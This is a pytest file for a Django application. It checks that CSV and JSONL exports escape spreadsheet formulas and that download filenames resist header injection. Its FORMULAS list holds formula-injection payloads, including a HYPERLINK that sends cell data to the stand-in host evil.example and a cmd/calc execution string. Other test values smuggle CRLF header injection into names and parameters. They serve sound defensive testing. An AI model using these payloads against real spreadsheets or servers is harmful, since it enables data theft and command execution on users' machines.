"""What is taken away as a file: no cell that a spreadsheet runs, no name of a file that leads elsewhere."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from gpus_app.models import Host
from models_app.models import Audition, Finding, Override, Row
from quartermaster_site.access.models import AuditEntry

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   \t@x",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠x",
    '"=1+1',
    "x\n=1+1",
    "x\r\n@y,=1",
    'a","=1+1',
    ";=1+1",
)
RUN = re.compile(r"\s*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
TABLES = ("/issues/export/", "/audit/export/", "/export/local/overrides.csv")


@pytest.fixture(scope="module")
def filled(tree):
    """Every formula in every column that a person, a file or a program fills."""
    host = Host.objects.get(slug="local")
    for number, text in enumerate(FORMULAS):
        Finding.objects.create(host=host, kind=f"x-{number}", path=f"{text}{number}", text=text)
        AuditEntry.objects.create(
            actor=text,
            address=text[:64],
            action="user.change",
            object_label=text,
            reason=text,
            changes={text: [text, text]},
        )
        Override.objects.create(
            host=host,
            match=f"{text}*{number}",
            quant=text[:40],
            version=1,
            fields={"chatTemplate": text, "customArgs": text},
        )
    return tree


def cells(answer):
    text = b"".join(answer.streaming_content if answer.streaming else [answer.content]).decode()
    return [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]


@pytest.mark.parametrize("address", TABLES)
def test_no_cell_is_a_formula(visit, filled, address):
    found = cells(visit("admin").get(address))
    assert not [cell for cell in found if RUN.match(cell) and not NUMBER.fullmatch(cell)]
    assert len([cell for cell in found if cell.startswith("'")]) >= len(FORMULAS) - 5, "the formulas are in none"


def test_one_entry_is_one_line_of_json(visit, filled):
    answer = visit("admin").get("/audit/export/?as=jsonl")
    lines = b"".join(answer.streaming_content).decode().split("\n")
    for line in filter(None, lines):
        assert json.loads(line)["action"]
    assert answer["Content-Type"].startswith("application/x-ndjson")


SAFE_NAME = re.compile(r'(?:attachment|inline); filename="[A-Za-z0-9._-]+"')
FILES = (
    *TABLES,
    "/audit/export/?as=jsonl",
    "/audit/export/?as=../x",
    "/config/local/1/download/",
    "/config/local/drift/{found}/",
    "/voices/local/auditions/{audition}/audio/",
    "/voices/local/auditions/{audition}/audio/?download=%22%0d%0aX: y",
)


@pytest.mark.parametrize("path", FILES)
def test_names_of_files_are_plain(visit, filled, path):
    """Whatever the host, the model or the address is called; a browser is to store them and not to show them."""
    Host.objects.filter(slug="local").update(name='"; filename="x.html\r\nX: y', publish_path='/srv/x".html\r\n')
    Row.objects.update(file_name='"x.html', served_id='"x.html\r\n')
    assert Audition.objects.exists()
    answer = visit("admin").get(path.format(**filled))
    assert answer.status_code == 200
    if "Content-Disposition" in answer.headers:
        assert SAFE_NAME.fullmatch(answer["Content-Disposition"])
    assert "html" not in answer["Content-Type"] or "attachment" not in answer.headers.get("Content-Disposition", "")
    assert answer["X-Content-Type-Options"] == "nosniff"


def test_texts_of_others_are_no_pages(visit, filled):
    """A text that lay on a host and a file of ours come as what they are, never as HTML."""
    for path in ("/config/local/1/download/", "/config/local/drift/{found}/"):
        answer = visit("admin").get(path.format(**filled))
        if "Content-Disposition" in answer.headers:
            assert answer["Content-Type"].split(";")[0] in ("text/plain", "application/yaml")
